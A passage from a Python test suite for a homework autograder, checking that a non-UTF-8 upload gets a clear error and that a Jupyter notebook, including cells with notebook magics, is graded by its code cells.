    assert "is not UTF-8 text: byte 0xe9 on line 1 (and 1 more)" in results["output"] and "Save the file as UTF-8" in results["output"]


def test_a_notebook_is_graded_by_its_code_cells(project, mode, tmp_path, grader_tmp):
    _, reference = project
    cells = [{"cell_type": "markdown", "metadata": {}, "source": ["# My homework\n"]}]
    cells += [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": ["%matplotlib inline\n", "!pip install torch\n"]}]
    cells += [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": part.splitlines(keepends=True)}
              for part in reference.split("\n\n\n")]
    notebook = {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    upload = tmp_path / "homework3.ipynb"
    upload.write_text(json.dumps(notebook))
    results, _ = grade(project, mode, upload, tmp_path / "results.json", grader_tmp)
    assert by_problem(results) == FULL, [t["output"] for t in results["tests"] if t["status"] == "failed"][:1]
    assert "notebook homework3.ipynb" in results["output"]
